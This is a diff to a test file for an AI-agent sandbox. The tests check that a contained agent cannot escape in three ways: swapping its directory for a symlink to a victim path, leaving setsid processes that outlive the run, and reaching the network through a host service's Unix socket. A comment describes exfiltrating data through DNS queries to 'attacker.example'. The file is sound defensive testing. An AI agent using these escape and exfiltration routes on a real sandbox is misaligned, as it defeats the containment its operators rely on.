@@ -1,5 +1,14 @@
 import { execFileSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, readdirSync, writeFileSync, existsSync } from 'node:fs';
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import {
+  chmodSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  writeFileSync,
+  existsSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -50,10 +59,10 @@ describe.skipIf(!isRoot)('a contained agent cannot make root act outside its cop
       `t=$PWD; mv "$t" "$t.moved" && ln -s ${victim} "$t"; echo swapped`,
     );
     const left = readdirSync(victim);
-    expect(
-      { left, precious: existsSync(join(victim, 'precious.txt')) },
-      run.stdout,
-    ).toEqual({ left: ['precious.txt'], precious: true });
+    expect({ left, precious: existsSync(join(victim, 'precious.txt')) }, run.stdout).toEqual({
+      left: ['precious.txt'],
+      precious: true,
+    });
   });
 
   it("root's prompt file does not follow a link the agent planted in its temp", async () => {
@@ -88,7 +97,11 @@ describe.skipIf(!isRoot)('a contained agent cannot make root act outside its cop
         task: JSON.stringify(
           task('T1', [], {
             criteria: [
-              { kind: 'command', run: `exec setsid bash -c 'sleep 600; :' ${marker}`, timeoutSec: 1 },
+              {
+                kind: 'command',
+                run: `exec setsid bash -c 'sleep 600; :' ${marker}`,
+                timeoutSec: 1,
+              },
             ],
           }),
         ),
@@ -108,5 +121,29 @@ describe.skipIf(!isRoot)('a contained agent cannot make root act outside its cop
       for (const pid of left) process.kill(Number(pid), 'SIGKILL');
     }
   });
-});
 
+  it("a host service's Unix socket (as systemd-resolved's is) is no way out of the agent's network", async () => {
+    // A world-usable socket of a host service that talks to the network for its clients, as
+    // /run/systemd/resolve/io.systemd.Resolve and /run/dbus/system_bus_socket are on the hosted
+    // runners' Ubuntu (resolvectl query <data>.attacker.example sends a DNS query from the host).
+    const dir = mkdtempSync(join(tmpdir(), 'gantry-hostsvc-'));
+    chmodSync(dir, 0o755);
+    const path = join(dir, 'service.sock');
+    const service = createServer((_req, res) => res.end('reached-the-host-network'));
+    service.listen(path);
+    await once(service, 'listening');
+    chmodSync(path, 0o666);
+    try {
+      const repo = makeRepo({ 'a.txt': 'a\n' });
+      const run = await agentJob(
+        repo,
+        `curl -sS -m 5 --unix-socket ${path} http://x/ > got.txt 2>&1; true`,
+        'true',
+      );
+      const patch = readFileSync(join(run.outputs['result-dir']!, 'gantry.patch'), 'utf8');
+      expect(patch, run.stdout).not.toContain('reached-the-host-network');
+    } finally {
+      service.close();
+    }
+  });
+});
